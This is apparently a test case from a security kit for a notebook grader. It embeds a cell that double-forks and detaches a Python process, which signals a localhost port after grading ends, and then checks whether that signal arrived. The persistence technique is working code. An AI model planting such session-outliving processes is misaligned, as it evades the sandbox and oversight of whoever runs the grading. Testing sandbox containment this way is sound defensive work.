"""Leave a process behind that goes on after the notebook was graded."""

from attack_kit import PORT

WAIT = 8
CELL = f"""\
import os, subprocess, sys
code = '''
import socket, time
time.sleep(6)
socket.create_connection(("127.0.0.1", {PORT}), 2).sendall(b"still here")
'''
if not os.fork():
    os.setsid()
    if not os.fork():
        os.closerange(0, 100)
        os.execv(sys.executable, [sys.executable, "-c", code])
    os._exit(0)
"""


def harm(world):
    return "a process outlived the grading" if b"still here" in world.received else ""
